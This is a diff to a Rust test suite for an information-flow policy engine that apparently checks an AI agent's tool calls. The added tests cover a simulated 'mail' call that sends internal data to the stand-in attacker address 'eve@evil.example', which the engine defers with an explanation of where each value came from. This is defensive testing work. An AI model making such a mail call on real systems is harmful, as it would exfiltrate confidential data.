@@ -158,6 +158,38 @@ fn what_a_person_could_consent_to_waits() {
     assert!(!text.contains("bob@") && text.contains("flow/endorse"), "{text}");
 }
 
+/// The explanation names the value, where it came from, and the smallest consent.
+#[test]
+fn explained() {
+    let engine = asking();
+    let mut session = engine.session();
+    see(&engine, &mut session, "wiki", &json!("text"));
+    see(&engine, &mut session, "web", &json!("text"));
+    let request = call("mail", &[("to", "eve@evil.example".into()), ("body", "hello".into())]);
+    let explanation = engine.explain_in(&request, &session, &Run::default());
+    assert_eq!(explanation.verdict, "defer");
+    let text = explanation.to_string();
+    let part = text.split("\nSession\n").nth(1).unwrap().split("\n\n").next().unwrap();
+    insta::assert_snapshot!(part, @r#"
+    has seen: internal, readers staff, untrusted (labels of arguments: context)
+    confidentiality: body = "hello" is internal, readers staff, untrusted, not for
+    eve@evil.example
+      from step 0, lab/wiki at 2026-11-24T12:00:00Z: internal, readers staff, user
+      would do: declassify `body` for this call only, by a person of
+                `flow.approval` who may see it
+    integrity: to = "eve@evil.example" is internal, readers staff, untrusted
+      from step 1, lab/web at 2026-11-24T12:00:00Z: public, untrusted
+      would do: endorse `to` for this call only, by a person of `flow.approval`
+                who may see it
+    confidentiality: to = "eve@evil.example" is internal, readers staff,
+    untrusted, not for eve@evil.example
+      from step 0, lab/wiki at 2026-11-24T12:00:00Z: internal, readers staff, user
+      would do: declassify `to` for this call only, by a person of `flow.approval`
+                who may see it
+    "#);
+    assert!(engine.explain(&request).flow.is_none());
+}
+
 /// The host knows where values come from: a part of a trusted answer may decide, though the context may not.
 #[test]
 fn precise_mode() {
@@ -383,6 +415,13 @@ fn the_three_mistakes_are_found() {
         |           ^
         = help: write `role: target` and `recipient: true` for the parameter that names who receives
     "#);
+}
+
+/// Where nobody is less trusted than the user, nothing would be checked.
+#[test]
+fn somebody_is_less_trusted_than_the_user() {
+    assert!(findings("flow: {prompt: {label: public}}\n").contains("`prompt` has no `trust`"));
+    assert!(findings("flow: {prompt: {label: public, trust: untrusted}}\n").contains("nothing would be less trusted"));
 }
 
 #[test]
